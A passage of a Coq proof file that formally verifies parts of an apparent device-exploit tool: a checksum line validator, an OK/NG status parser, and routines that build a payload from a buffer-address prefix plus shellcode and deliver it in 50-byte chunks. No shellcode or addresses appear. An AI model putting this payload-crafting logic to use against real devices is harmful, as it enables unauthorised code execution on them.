  unfold validate_line. destruct line as [|x rest]; [discriminate|].
  set (s := strip_trailing_crlf (x :: rest)). intros H. split; [discriminate|].
  destruct (find_last_of chr_colon s) as [i|] eqn:Hfind; [|discriminate].
  destruct (i + 3 =? length s)%nat eqn:Hlen; simpl in H; [|discriminate].
  apply Nat.eqb_eq in Hlen.
  destruct (validate_line_suffix s i Hfind Hlen) as (h & l & Hs & Hdrop).
  rewrite Hdrop, hex2buf_two in H.
  destruct (hex_digit h) as [hv|] eqn:Hh; [|discriminate].
  destruct (hex_digit l) as [lv|] eqn:Hl; [|discriminate].
  simpl in H. rewrite Z_of_u8_of_Z in H.
  destruct (_ =? _) eqn:Hsum in H; simpl in H; [|discriminate].
  assert (Hbody : take i s = body) by congruence. subst body.
  exists h, l. split; [exact Hs|].
  exists hv, lv. repeat split; try assumption.
  apply Z.eqb_eq in Hsum. rewrite <- Hsum.
  pose proof (hex_digit_range _ _ Hh). pose proof (hex_digit_range _ _ Hl).
  rewrite Z.mod_small; lia.
Qed.

(** [csum[0]] is only read from a one-element vector. *)
Lemma validate_line_total (line : str) :
  exists ret line', validate_line line = Some (ret, line').
Proof.
  unfold validate_line. destruct line as [|x rest]; [eauto|].
  set (s := strip_trailing_crlf (x :: rest)).
  destruct (find_last_of chr_colon s) as [i|] eqn:Hfind; [|eauto].
  destruct (i + 3 =? length s)%nat eqn:Hlen; simpl; [|eauto].
  apply Nat.eqb_eq in Hlen.
  destruct (validate_line_suffix s i Hfind Hlen) as (h & l & Hs & Hdrop).
  rewrite Hdrop, hex2buf_two.
  destruct (hex_digit h), (hex_digit l); simpl; eauto.
  destruct (negb _); eauto.
Qed.

(** C4: [validate_line] never hits undefined behaviour and always returns;
    it returns true exactly when the line is non-empty and, once its
    trailing CR/LF are stripped, ends in a colon followed by two
    hexadecimal digits whose value is the sum mod 256 of the bytes before
    that colon, and then the line is left as those bytes: the [:HH]
    suffix and the trailing CR/LF are gone and nothing else. In every
    other case it returns false. *)
Theorem validate_line_checksum_gate (line : str) :
  (exists ret line', validate_line line = Some (ret, line')) /\
  (forall body,
     validate_line line = Some (true, body) <->
     line <> [] /\
     exists h l tail,
       line = body ++ [chr_colon; h; l] ++ tail /\
       Forall (fun c => is_crlf c = true) tail /\
       checksum_suffix body h l) /\
  ((forall body h l tail,
      line = body ++ [chr_colon; h; l] ++ tail ->
      Forall (fun c => is_crlf c = true) tail ->
      ~ checksum_suffix body h l) ->
   exists line', validate_line line = Some (false, line')).
Proof.
  assert (Hiff : forall body,
     validate_line line = Some (true, body) <->
     line <> [] /\
     exists h l tail,
       line = body ++ [chr_colon; h; l] ++ tail /\
       Forall (fun c => is_crlf c = true) tail /\
       checksum_suffix body h l).
  { intros body. split.
    - intros H. apply validate_line_accepted in H as (Hne & h & l & Hs & Hck).
      split; [exact Hne|].
      destruct (strip_trailing_crlf_split line) as (tail & Hline & Htail & _).
      exists h, l, tail. rewrite Hs in Hline. rewrite <- app_assoc in Hline.
      auto.
    - intros (Hne & h & l & tail & Hline & Htail & Hck).
      apply (validate_line_accepts line body h l Hne); [|exact Hck].
      rewrite Hline, app_assoc, strip_trailing_crlf_app by exact Htail.
      destruct Hck as (hv & lv & Hh & Hl & _).
      change (body ++ [chr_colon; h; l]) with (body ++ [chr_colon; h] ++ [l]).
      rewrite app_assoc. apply strip_trailing_crlf_keep.
      exact (hex_digit_not_crlf _ _ Hl). }
  split; [apply validate_line_total|]. split; [exact Hiff|].
  intros Hno. destruct (validate_line_total line) as ([|] & line' & H); [|eauto].
  exfalso. apply Hiff in H as (_ & h & l & tail & Hline & Htail & Hck).
  exact (Hno _ _ _ _ Hline Htail Hck).
Qed.

Lemma validate_line_checksum_gate_witness :
  validate_line (lit "OK 00000000:3A" ++ [chr_CR])
    = Some (true, lit "OK 00000000").
Proof.
  apply (proj1 (proj2 (validate_line_checksum_gate
                         (lit "OK 00000000:3A" ++ [chr_CR])))).
  split; [discriminate|].
  exists "3"%char, "A"%char, [chr_CR].
  split; [reflexivity|]. split; [repeat constructor|].
  exists 3, 10. repeat split; reflexivity.
Defined.

Example validate_line_ok :
  validate_line (lit "OK 00000000:3A") = Some (true, lit "OK 00000000").
Proof. vm_compute. reflexivity. Qed.

Example validate_line_cr :
  validate_line (lit "OK 00000000:3A" ++ [chr_CR])
    = Some (true, lit "OK 00000000").
Proof. vm_compute. reflexivity. Qed.

Example validate_line_tampered :
  validate_line (lit "OK 00000000:3B") = Some (false, lit "OK 00000000:3B").
Proof. vm_compute. reflexivity. Qed.

Example validate_line_short_suffix :
  validate_line (lit "OK 00000000:3") = Some (false, lit "OK 00000000:3").
Proof. vm_compute. reflexivity. Qed.

(** ** [Result::from_str] and [Result::format] *)

Lemma starts_with_app (p t : str) : starts_with (p ++ t) p = true.
Proof.
  induction p as [|c p IH]; simpl; [reflexivity|].
  unfold chr_eqb. rewrite Ascii.eqb_refl. exact IH.
Qed.

Lemma starts_with_inv (s p : str) :
  starts_with s p = true -> s = p ++ drop (length p) s.
Proof.
  revert s. induction p as [|c p IH]; intros s H; simpl in *.
  - rewrite drop_0. reflexivity.
  - destruct s as [|x s]; [discriminate|].
    apply andb_true_iff in H as [Hx Hs]. apply chr_eqb_eq in Hx. subst x.
    simpl. f_equal. apply IH, Hs.
Qed.

(** The status field of an Ok/Ng line: a tag, eight hexadecimal digits,
    and then either nothing or a space and the free text. *)
Lemma from_str_status_line (ok : bool) (h rest : str) (v : Z) :
  length h = 8%nat ->
  hex_value 0 h = Some v ->
  rest = [] \/ (exists p, rest = chr_space :: p) ->
  from_str ((if ok then lit "OK " else lit "NG ") ++ h ++ rest)
    = mkResult (if ok then kOk else kNg) v (drop 1 rest).
Proof.
  intros Hlen Hv Hrest.
  assert (Hhex : forall tag : str, length tag = 3%nat ->
            int_from_hex 4 (tag ++ h ++ rest) (2 + 1) = Some v).
  { intros tag Htag. unfold int_from_hex.
    rewrite (drop_app_length' tag (h ++ rest)) by (simpl; lia).
    rewrite (take_app_length' h rest) by (simpl; lia).
    rewrite Hlen. simpl. exact Hv. }
  assert (Hsize : forall tag : str, length tag = 3%nat ->
            length (tag ++ h ++ rest) = (11 + length rest)%nat).
  { intros tag Htag. rewrite !length_app. lia. }
  assert (Hnth : nth 8 (h ++ rest) zero = nth 0 rest zero).
  { rewrite app_nth2; rewrite Hlen; [reflexivity|lia]. }
  assert (Hdrop : forall tag : str, length tag = 3%nat ->
            drop 12 (tag ++ h ++ rest) = drop 1 rest).
  { intros tag Htag. rewrite app_assoc.
    change 12%nat with (11 + 1)%nat.
    rewrite (drop_app_add' (tag ++ h) rest 11 1); [reflexivity|].
    rewrite length_app. lia. }
  unfold from_str.
  destruct ok.
  - specialize (Hhex (lit "OK ") eq_refl). specialize (Hsize (lit "OK ") eq_refl).
    specialize (Hdrop (lit "OK ") eq_refl).
    rewrite Hhex, Hsize.
    replace (starts_with (lit "OK " ++ h ++ rest) (lit "# ")) with false by reflexivity.
    replace (starts_with (lit "OK " ++ h ++ rest) (lit "$$ ")) with false by reflexivity.
    replace (starts_with (lit "OK " ++ h ++ rest) (lit "OK ")) with true by reflexivity.
    rewrite !andb_false_r. cbn [negb andb].
    replace (11 + length rest <? 2 + 1 + 8)%nat with false
      by (symmetry; apply Nat.ltb_ge; lia).
    destruct Hrest as [->|(p & ->)]; [reflexivity|].
    change (2 + 1 + 8)%nat with 11%nat. change (11 + 1)%nat with 12%nat.
    change (nth 11 (lit "OK " ++ h ++ chr_space :: p) zero)
      with (nth 8 (h ++ chr_space :: p) zero).
    rewrite Hnth, Hdrop. reflexivity.
  - specialize (Hhex (lit "NG ") eq_refl). specialize (Hsize (lit "NG ") eq_refl).
    specialize (Hdrop (lit "NG ") eq_refl).
    rewrite Hhex, Hsize.
    replace (starts_with (lit "NG " ++ h ++ rest) (lit "# ")) with false by reflexivity.
    replace (starts_with (lit "NG " ++ h ++ rest) (lit "$$ ")) with false by reflexivity.
    replace (starts_with (lit "NG " ++ h ++ rest) (lit "OK ")) with false by reflexivity.
    replace (starts_with (lit "NG " ++ h ++ rest) (lit "NG ")) with true by reflexivity.
    rewrite !andb_false_r. cbn [negb andb].
    replace (11 + length rest <? 2 + 1 + 8)%nat with false
      by (symmetry; apply Nat.ltb_ge; lia).
    destruct Hrest as [->|(p & ->)]; [reflexivity|].
    change (2 + 1 + 8)%nat with 11%nat. change (11 + 1)%nat with 12%nat.
    change (nth 11 (lit "NG " ++ h ++ chr_space :: p) zero)
      with (nth 8 (h ++ chr_space :: p) zero).
    rewrite Hnth, Hdrop. reflexivity.
Qed.

Lemma from_str_comment (p : str) :
  p <> [] -> from_str (lit "# " ++ p) = mkResult kComment kInvalidStatus p.
Proof. destruct p as [|c p]; [congruence|]. reflexivity. Qed.

Lemma from_str_info (p : str) :
  p <> [] -> from_str (lit "$$ " ++ p) = mkResult kInfo kInvalidStatus p.
Proof. destruct p as [|c p]; [congruence|]. reflexivity. Qed.


Lemma status_line_intro (s tag : str) (ok : bool) (v : Z) :
  tag = (if ok then lit "OK " else lit "NG ") ->
  starts_with s tag = true ->
  int_from_hex 4 s (2 + 1) = Some v ->
  (length s <= 11)%nat \/ nth 11 s zero = chr_space ->
  status_line s.
Proof.
  intros Htag Hpre Hhex Hsep.
  assert (Hlen3 : length tag = 3%nat) by (subst tag; destruct ok; reflexivity).
  apply starts_with_inv in Hpre. rewrite Hlen3 in Hpre.
  unfold int_from_hex in Hhex.
  destruct (length (take (2 * 4) (drop (2 + 1) s)) =? 2 * 4)%nat eqn:Hlen;
    [|discriminate].
  apply Nat.eqb_eq in Hlen.
  change (2 * 4)%nat with 8%nat in *. change (2 + 1)%nat with 3%nat in *.
  exists ok, (take 8 (drop 3 s)), (drop 11 s), v.
  split; [exact Hlen|]. split; [exact Hhex|]. split.
  - destruct Hsep as [Hle|Hsp].
    + left. apply drop_ge. exact Hle.
    + destruct (le_lt_dec (length s) 11) as [Hle|Hgt].
      * left. apply drop_ge. exact Hle.
      * right. exists (drop 12 s).
        destruct (lookup_lt_is_Some_2 s 11 Hgt) as [c Hc].
        rewrite (drop_S s c 11 Hc). f_equal.
        rewrite (nth_lookup_Some _ _ zero _ Hc) in Hsp. exact Hsp.
  - rewrite <- Htag.
    replace (drop 11 s) with (drop 8 (drop 3 s)) by (rewrite drop_drop; reflexivity).
    rewrite take_drop. exact Hpre.
Qed.

Lemma from_str_unknown (s : str) :
  ~ comment_line s -> ~ info_line s -> ~ status_line s ->
  from_str s = new_unknown s.
Proof.
  intros Hc Hi Hs. unfold from_str.
  destruct ((2 <? length s)%nat && starts_with s (lit "# ")) eqn:E1.
  { exfalso. apply andb_true_iff in E1 as [Hlen Hpre]. apply Hc.
    apply Nat.ltb_lt in Hlen. apply starts_with_inv in Hpre.
    exists (drop 2 s). split; [|exact Hpre].
    intros Hnil. apply (f_equal length) in Hnil.
    rewrite length_drop in Hnil. simpl in Hnil. lia. }
  destruct ((3 <? length s)%nat && starts_with s (lit "$$ ")) eqn:E2.
  { exfalso. apply andb_true_iff in E2 as [Hlen Hpre]. apply Hi.
    apply Nat.ltb_lt in Hlen. apply starts_with_inv in Hpre.
    exists (drop 3 s). split; [|exact Hpre].
    intros Hnil. apply (f_equal length) in Hnil.
    rewrite length_drop in Hnil. simpl in Hnil. lia. }
  destruct (length s <? 2 + 1 + 8)%nat eqn:E3; [reflexivity|].
  destruct (int_from_hex 4 s (2 + 1)) as [v|] eqn:E4.
  2:{ destruct (negb _ && negb _); reflexivity. }
  assert (Hsep : (length s <= 11)%nat \/ nth 11 s zero = chr_space ->
                 starts_with s (lit "OK ") = true \/
                 starts_with s (lit "NG ") = true -> False).
  { intros Hsep [Hok|Hng]; apply Hs.
    - exact (status_line_intro s _ true v eq_refl Hok E4 Hsep).
    - exact (status_line_intro s _ false v eq_refl Hng E4 Hsep). }
  destruct (starts_with s (lit "OK ")) eqn:Eok;
    destruct (starts_with s (lit "NG ")) eqn:Eng; cbn [negb andb];
    try reflexivity;
    (destruct (2 + 1 + 8 <? length s)%nat eqn:E5;
     [ destruct (chr_eqb (nth (2 + 1 + 8) s zero) chr_space) eqn:E6;
       [ exfalso; apply chr_eqb_eq in E6; apply Hsep; auto
       | reflexivity ]
     | exfalso; apply Nat.ltb_ge in E5; simpl in E5; apply Hsep; auto ]).
Qed.

(** C5 (as amended): [from_str] is a total function, and it classifies
    - "# " followed by at least one character as Comment, the remainder
      as payload;
    - "$$ " followed by at least one character as Info;
    - "OK " or "NG " followed by eight hexadecimal digits, and then either
      nothing or one space and free text, as Ok or Ng with that status and
      that text;
    - every other input as Unknown with the input as payload; the bare
      prefixes "# " and "$$ " are among these. *)
Theorem from_str_classification (s : str) :
  (forall p, p <> [] -> s = lit "# " ++ p ->
     from_str s = mkResult kComment kInvalidStatus p) /\
  (forall p, p <> [] -> s = lit "$$ " ++ p ->
     from_str s = mkResult kInfo kInvalidStatus p) /\
  (forall (ok : bool) (h rest : str) (v : Z),
     length h = 8%nat -> hex_value 0 h = Some v ->
     rest = [] \/ (exists p, rest = chr_space :: p) ->
     s = (if ok then lit "OK " else lit "NG ") ++ h ++ rest ->
     from_str s = mkResult (if ok then kOk else kNg) v (drop 1 rest)) /\
  (~ comment_line s -> ~ info_line s -> ~ status_line s ->
     from_str s = new_unknown s) /\
  (s = lit "# " \/ s = lit "$$ " -> from_str s = new_unknown s).
Proof.
  split; [intros p Hp ->; apply from_str_comment, Hp|].
  split; [intros p Hp ->; apply from_str_info, Hp|].
  split; [intros ok h rest v Hlen Hv Hrest ->;
          apply from_str_status_line; assumption|].
  split; [apply from_str_unknown|].
  intros [->| ->]; reflexivity.
Qed.

Lemma from_str_classification_witness :
  from_str (lit "NG F0000006 unknown cmd")
    = mkResult kNg StatusCode.kUcmdUnknownCmd (lit "unknown cmd").
Proof.
  apply (proj1 (proj2 (proj2 (from_str_classification
                                (lit "NG F0000006 unknown cmd"))))
           false (lit "F0000006") (lit " unknown cmd")).
  - reflexivity.
  - reflexivity.
  - right. exists (lit "unknown cmd"). reflexivity.
  - reflexivity.
Defined.

(** C5, the claim as stated fails: a line that is exactly the prefix "# "
    starts with "# " and yet is classified Unknown, not Comment. *)
Lemma from_str_bare_comment_prefix :
  starts_with (lit "# ") (lit "# ") = true /\
  from_str (lit "# ") = new_unknown (lit "# ") /\
  from_str (lit "# ") <> mkResult kComment kInvalidStatus (drop 2 (lit "# ")).
Proof. repeat split. discriminate. Qed.

(** ** Formatting and reading back a status *)

Lemma hex_digit_upper (d : Z) :
  0 <= d < 16 -> hex_digit (hex_upper_digit d) = Some d.
Proof.
  intros Hd.
  assert (Hcases : d = 0 \/ d = 1 \/ d = 2 \/ d = 3 \/ d = 4 \/ d = 5 \/ d = 6
                   \/ d = 7 \/ d = 8 \/ d = 9 \/ d = 10 \/ d = 11 \/ d = 12
                   \/ d = 13 \/ d = 14 \/ d = 15) by lia.
  repeat (destruct Hcases as [-> | Hcases]; [reflexivity|]).
  subst d. reflexivity.
Qed.

Lemma nibble_spec (v : Z) (i : nat) :
  Z.land (Z.shiftr v (4 * Z.of_nat i)) 15 = (v / 16 ^ Z.of_nat i) mod 16.
Proof.
  change 15 with (Z.ones 4). rewrite Z.land_ones by lia.
  rewrite Z.shiftr_div_pow2 by lia.
  rewrite Z.pow_mul_r by lia. reflexivity.
Qed.

Lemma format_0X_S (width : nat) (v : Z) :
  format_0X (S width) v
    = hex_upper_digit ((v / 16 ^ Z.of_nat width) mod 16) :: format_0X width v.
Proof.
  unfold format_0X. rewrite seq_S, rev_app_distr. simpl.
  rewrite nibble_spec. reflexivity.
Qed.

Lemma length_format_0X (width : nat) (v : Z) : length (format_0X width v) = width.
Proof. unfold format_0X. rewrite length_map, length_rev, length_seq. reflexivity. Qed.

(** Reading back the digits [format_0X] wrote continues the accumulator
    with the low [width] digits of [v]. *)
Lemma hex_value_format_0X (width : nat) (v acc : Z) :
  hex_value acc (format_0X width v)
    = Some (acc * 16 ^ Z.of_nat width + v mod 16 ^ Z.of_nat width).
Proof.
  revert acc. induction width as [|width IH]; intros acc.
  - simpl. rewrite Z.mod_1_r. f_equal. lia.
  - rewrite format_0X_S. simpl hex_value.
    rewrite hex_digit_upper by (apply Z.mod_pos_bound; lia).
    rewrite IH. f_equal.
    rewrite Nat2Z.inj_succ, Z.pow_succ_r by lia.
    rewrite (Z.mul_comm 16 (16 ^ Z.of_nat width)).
    rewrite (Z.rem_mul_r v (16 ^ Z.of_nat width) 16) by lia.
    lia.
Qed.

Lemma hex_value_format_08X (v : Z) :
  0 <= v < 2 ^ 32 -> hex_value 0 (format_0X 8 v) = Some v.
Proof.
  intros Hv. rewrite hex_value_format_0X. f_equal.
  change (16 ^ Z.of_nat 8) with (2 ^ 32). rewrite Z.mod_small; lia.
Qed.

Lemma format_okng (r : Result) :
  is_ok_or_ng r = true ->
  format r = (if is_ok r then lit "OK " else lit "NG ")
               ++ format_0X 8 (status_ r) ++ chr_space :: response_ r.
Proof.
  intros H. unfold format. rewrite H. destruct (is_ok r); reflexivity.
Qed.

(** C6: for every Ok or Ng result with a 32-bit status, parsing the
    formatted text gives the result back: same variant, same status, same
    payload. No condition on the payload is needed. *)
Theorem from_str_format_okng (r : Result) :
  is_ok_or_ng r = true ->
  0 <= status_ r < 2 ^ 32 ->
  from_str (format r) = r.
Proof.
  intros Hokng Hstatus. rewrite (format_okng r Hokng).
  rewrite (from_str_status_line (is_ok r) (format_0X 8 (status_ r))
             (chr_space :: response_ r) (status_ r)).
  - destruct r as [t st resp]. unfold is_ok_or_ng, is_ok, is_ng in *.
    simpl in *. destruct t; try discriminate; reflexivity.
  - apply length_format_0X.
  - apply hex_value_format_08X, Hstatus.
  - right. eauto.
Qed.

Lemma from_str_format_okng_witness :
  from_str (format (new_ng StatusCode.kFwConstsInvalid (lit "E1E 0001")))
    = new_ng StatusCode.kFwConstsInvalid (lit "E1E 0001").
Proof.
  apply (from_str_format_okng (new_ng StatusCode.kFwConstsInvalid (lit "E1E 0001"))).
  - reflexivity.
  - unfold StatusCode.kFwConstsInvalid. simpl. lia.
Defined.

(** The other variants need not come back: a Comment with an empty payload
    is formatted as the bare prefix, which parses as Unknown. *)
Example from_str_format_comment :
  from_str (format (mkResult kComment kInvalidStatus []))
    = new_unknown (lit "# ").
Proof. reflexivity. Qed.

(** ** The session monad *)

Lemma bind_ext {A B} (m : M A) (k k' : A -> M B) (s : Session) :
  (forall a s', k a s' = k' a s') -> bind m k s = bind m k' s.
Proof. intros H. unfold bind. destruct (m s) as [[a s']|]; [apply H|reflexivity]. Qed.

Lemma log_log (s : Session) (a b : list Event) : log (log s a) b = log s (a ++ b).
Proof. unfold log. simpl. rewrite app_assoc. reflexivity. Qed.

Lemma log_nil (s : Session) : log s [] = s.
Proof. destruct s. unfold log. simpl. rewrite app_nil_r. reflexivity. Qed.

(** ** [align_up] and the crafted payload *)

Lemma align_up_spec (x a : Z) :
  0 <= x < 2 ^ 32 -> 0 < a < 2 ^ 32 ->
  align_up x a = Some ((x + (a - x mod a)) mod 2 ^ 32).
Proof.
  intros Hx Ha. unfold align_up.
  destruct (a =? 0) eqn:E; [lia|].
  pose proof (Z.mod_pos_bound x a ltac:(lia)).
  unfold size_wrap. rewrite (Z.mod_small (a - x mod a)) by lia. reflexivity.
Qed.

Lemma align_up_exact (x a : Z) :
  0 <= x -> 0 < a -> x + a < 2 ^ 32 ->
  align_up x a = Some (x + (a - x mod a)).
Proof.
  intros Hx Ha Hsum. rewrite align_up_spec by lia.
  pose proof (Z.mod_pos_bound x a ltac:(lia)).
  rewrite Z.mod_small by lia. reflexivity.
Qed.

Lemma align_up_moves (x a : Z) :
  0 <= x < 2 ^ 32 -> 0 < a < 2 ^ 32 -> align_up x a <> Some x.
Proof.
  intros Hx Ha. rewrite align_up_spec by assumption. intros H.
  inversion H as [Heq]. clear H.
  pose proof (Z.mod_pos_bound x a ltac:(lia)) as Hrem.
  set (d := a - x mod a) in *.
  destruct (Z_lt_dec (x + d) (2 ^ 32)) as [Hlt|Hge].
  - rewrite Z.mod_small in Heq by lia. lia.
  - assert (Hm : (x + d) mod 2 ^ 32 = x + d - 2 ^ 32).
    { symmetry. apply (Z.mod_unique (x + d) (2 ^ 32) 1); lia. }
    lia.
Qed.

Lemma length_payload_prefix (addr : Z) :
  length (payload_prefix addr) = Z.to_nat sizeof_payload_t.
Proof. reflexivity. Qed.

(** The crafted payload is the prefix, the shellcode, and zero padding up
    to the size [align_up] returned. *)
Lemma craft_payload_layout (fw : FwConstants) :
  let payload_len := sizeof_payload_t + Z.of_nat (length (shellcode fw)) in
  payload_len <= payload_max_len ->
  craft_payload fw =
    Some (payload_prefix (ucmd_ua_buf_addr fw) ++ shellcode fw
            ++ replicate (Z.to_nat (50 - payload_len mod 50)) zero).
Proof.
  intros payload_len Hmax. unfold craft_payload. fold payload_len.
  unfold payload_max_len, sizeof_payload_t in *.
  destruct (payload_len >? 350) eqn:E; [lia|].
  rewrite align_up_exact by lia.
  pose proof (Z.mod_pos_bound payload_len 50 ltac:(lia)) as Hrem.
  set (pad := 50 - payload_len mod 50) in *.
  assert (Hpre : length (payload_prefix (ucmd_ua_buf_addr fw)) = 28%nat)
    by reflexivity.
  revert Hpre. generalize (payload_prefix (ucmd_ua_buf_addr fw)).
  intros prefix Hpre.
  f_equal. unfold memcpy. rewrite take_0, Hpre, app_nil_l.
  change (Z.to_nat 28) with 28%nat. change (0 + 28)%nat with 28%nat.
  rewrite drop_replicate.
  rewrite (take_app_length' prefix) by (rewrite Hpre; reflexivity).
  rewrite drop_app_add' by (rewrite Hpre; reflexivity).
  rewrite drop_replicate. do 3 f_equal.
  subst payload_len. lia.
Qed.

(** ** [set_payload] *)

Lemma chunks_of_nil (fuel : nat) : chunks_of fuel [] = [].
Proof. destruct fuel; reflexivity. Qed.

Lemma chunks_of_cons (fuel : nat) (payload : list u8) :
  payload <> [] ->
  chunks_of (S fuel) payload
    = take 50 payload :: chunks_of fuel (drop 50 payload).
Proof. destruct payload; [congruence|reflexivity]. Qed.

(** The delivery loop sends the payload in 50-byte pieces, and its
    iteration budget is enough. *)
Lemma set_payload_loop_chunks (emc : Emc) (payload : list u8) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  forall (fuel : nat) (pos idx : Z) (s : Session),
    0 <= pos -> 0 <= idx -> idx + Z.of_nat fuel < 2 ^ 32 ->
    (length (drop (Z.to_nat pos) payload) <= fuel)%nat ->
    set_payload_loop emc fuel payload pos idx s
      = deliver_chunks emc idx (chunks_of fuel (drop (Z.to_nat pos) payload)) s.
Proof.
  intros Hlen. induction fuel as [|fuel IH]; intros pos idx s Hpos Hidx Hfuel Hrest.
  - rewrite length_drop in Hrest. simpl.
    replace (pos <? Z.of_nat (length payload)) with false
      by (symmetry; apply Z.ltb_ge; lia).
    reflexivity.
  - cbn [set_payload_loop].
    destruct (pos <? Z.of_nat (length payload)) eqn:E; cbn [negb].
    + apply Z.ltb_lt in E.
      assert (Hne : drop (Z.to_nat pos) payload <> []).
      { intros Hnil. apply (f_equal length) in Hnil.
        rewrite length_drop in Hnil. simpl in Hnil. lia. }
      rewrite (chunks_of_cons fuel _ Hne). cbn [deliver_chunks].
      unfold chunk_len, size_wrap.
      rewrite (Z.mod_small (pos + 50)), (Z.mod_small (idx + 1)) by lia.
      assert (Hchunk :
        take (Z.to_nat (Z.min (pos + 50) (Z.of_nat (length payload)))
                - Z.to_nat pos) (drop (Z.to_nat pos) payload)
        = take 50 (drop (Z.to_nat pos) payload)).
      { destruct (Z_le_dec (pos + 50) (Z.of_nat (length payload))) as [Hle|Hgt].
        - rewrite Z.min_l by lia. f_equal. lia.
        - rewrite Z.min_r by lia.
          rewrite (take_ge _ 50) by (rewrite length_drop; lia).
          apply take_ge. rewrite length_drop. lia. }
      rewrite Hchunk. apply bind_ext. intros ok s'.
      destruct ok; cbn [negb]; [|reflexivity].
      rewrite IH; try lia.
      * rewrite drop_drop.
        replace (Z.to_nat (pos + 50)) with (Z.to_nat pos + 50)%nat by lia.
        reflexivity.
      * rewrite length_drop in *. lia.
    + apply Z.ltb_ge in E.
      rewrite drop_ge by lia. reflexivity.
Qed.

Lemma set_payload_chunks (emc : Emc) (payload : list u8) (s : Session) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  set_payload emc payload s
    = (nak ;;;
       ok <- puareq1 emc 0 ;;
       if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq1Failed [])
       else deliver_chunks emc 0 (chunks_of (length payload) payload)) s.
Proof.
  intros Hlen. unfold set_payload. apply bind_ext. intros _ s1.
  apply bind_ext. intros ok s2. destruct ok; cbn [negb]; [|reflexivity].
  rewrite set_payload_loop_chunks; try lia; [reflexivity|].
  rewrite drop_0. lia.
Qed.

(** Logging an event always returns. *)
Lemma emit_total (e : Event) (s : Session) : emit e s = Some (tt, log s [e]).
Proof. reflexivity. Qed.


Lemma chunks_of_enough (fuel fuel' : nat) (l : list u8) :
  (length l <= fuel)%nat -> (length l <= fuel')%nat ->
  chunks_of fuel l = chunks_of fuel' l.
Proof.
  revert fuel' l. induction fuel as [|fuel IH]; intros fuel' l H H'.
  - destruct l; [|simpl in H; lia]. rewrite !chunks_of_nil. reflexivity.
  - destruct l as [|c l]; [rewrite !chunks_of_nil; reflexivity|].
    destruct fuel' as [|fuel']; [simpl in H'; lia|].
    rewrite !chunks_of_cons by discriminate. f_equal.
    apply IH; rewrite length_drop; simpl in *; lia.
Qed.

(** Cutting a payload whose front part is a whole number of chunks cuts
    the two parts separately. *)
Lemma chunks_of_app (k : nat) (l1 l2 : list u8) :
  length l1 = (50 * k)%nat ->
  chunks_of (length (l1 ++ l2)) (l1 ++ l2)
    = chunks_of (length l1) l1 ++ chunks_of (length l2) l2.
Proof.
  revert l1. induction k as [|k IH]; intros l1 Hlen.
  - destruct l1; [reflexivity|simpl in Hlen; lia].
  - assert (Hne : l1 <> []) by (intros ->; simpl in Hlen; lia).
    assert (Hne' : l1 ++ l2 <> []) by (destruct l1; [congruence|discriminate]).
    destruct (length (l1 ++ l2)) as [|n] eqn:En.
    { destruct l1; [congruence|discriminate]. }
    destruct (length l1) as [|n1] eqn:En1; [lia|].
    rewrite (chunks_of_cons n _ Hne'), (chunks_of_cons n1 _ Hne).
    rewrite take_app_le, drop_app_le by lia.
    rewrite <- app_comm_cons. f_equal.
    rewrite length_app in En.
    rewrite (chunks_of_enough n (length (drop 50 l1 ++ l2)))
      by (rewrite length_app, length_drop; lia).
    rewrite (chunks_of_enough n1 (length (drop 50 l1)) (drop 50 l1))
      by (rewrite length_drop; lia).
    apply IH. rewrite length_drop. lia.
Qed.

Lemma chunks_of_200 (p : list u8) :
  length p = 200%nat ->
  chunks_of 200 p
    = [take 50 p; take 50 (drop 50 p); take 50 (drop 100 p);
       take 50 (drop 150 p)].
Proof.
  intros Hlen.
  assert (Hne : forall n, (n < 200)%nat -> drop n p <> []).
  { intros n Hn Hnil. apply (f_equal length) in Hnil.
    rewrite length_drop in Hnil. simpl in Hnil. lia. }
  change 200%nat with (S (S (S (S 196)))).
  rewrite <- (drop_0 p) at 1.
  rewrite chunks_of_cons by (apply Hne; lia). rewrite drop_drop.
  rewrite chunks_of_cons by (apply Hne; lia). rewrite drop_drop.
  rewrite chunks_of_cons by (apply Hne; lia). rewrite drop_drop.
  rewrite chunks_of_cons by (apply Hne; lia). rewrite drop_drop.
  rewrite (drop_ge p (0 + 50 + 50 + 50 + 50)) by (simpl; lia).
  rewrite chunks_of_nil. reflexivity.
Qed.

(** C9: for all in-range [x] and non-zero [a], [align_up x a] is
    [x + (a - x mod a)] in [size_t] arithmetic (exactly that number
    whenever [x + a] fits) and it is never [x]; on a multiple of 50 it
    returns [x + 50], so that a prefix-plus-shellcode of such a length is
    padded with 50 zero bytes, which [set_payload] delivers as one more
    chunk, all zero. *)
Theorem align_up_never_identity (x : Z) :
  0 <= x < 2 ^ 32 ->
  (forall a, 0 < a < 2 ^ 32 ->
     align_up x a = Some ((x + (a - x mod a)) mod 2 ^ 32) /\
     (x + a < 2 ^ 32 -> align_up x a = Some (x + (a - x mod a))) /\
     align_up x a <> Some x) /\
  (x mod 50 = 0 -> x + 50 < 2 ^ 32 -> align_up x 50 = Some (x + 50)) /\
  (forall fw,
     sizeof_payload_t + Z.of_nat (length (shellcode fw)) = x ->
     x mod 50 = 0 -> x <= payload_max_len ->
     let content := payload_prefix (ucmd_ua_buf_addr fw) ++ shellcode fw in
     craft_payload fw = Some (content ++ replicate 50 zero) /\
     forall emc s,
       set_payload emc (content ++ replicate 50 zero) s
         = (nak ;;;
            ok <- puareq1 emc 0 ;;
            if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq1Failed [])
            else deliver_chunks emc 0
                   (chunks_of (length content) content
                      ++ [replicate 50 zero])) s).
Proof.
  intros Hx. split; [|split].
  - intros a Ha. split; [apply align_up_spec; assumption|].
    split; [intros Hsum; apply align_up_exact; lia|].
    apply align_up_moves; assumption.
  - intros Hmod Hsum. rewrite align_up_exact by lia. rewrite Hmod.
    f_equal; lia.
  - intros fw Hlen Hmod Hmax content.
    assert (Hcontent : Z.of_nat (length content) = x).
    { unfold content. rewrite length_app, length_payload_prefix.
      unfold sizeof_payload_t in *. lia. }
    split.
    + rewrite craft_payload_layout by (cbv zeta; lia).
      cbv zeta. rewrite Hlen, Hmod. unfold content.
      rewrite <- app_assoc. reflexivity.
    + intros emc s. unfold payload_max_len in Hmax.
      rewrite set_payload_chunks by (rewrite length_app, length_replicate; lia).
      apply bind_ext. intros _ s1. apply bind_ext. intros ok s2.
      destruct ok; cbn [negb]; [|reflexivity].
      rewrite (chunks_of_app (Z.to_nat (x / 50))).
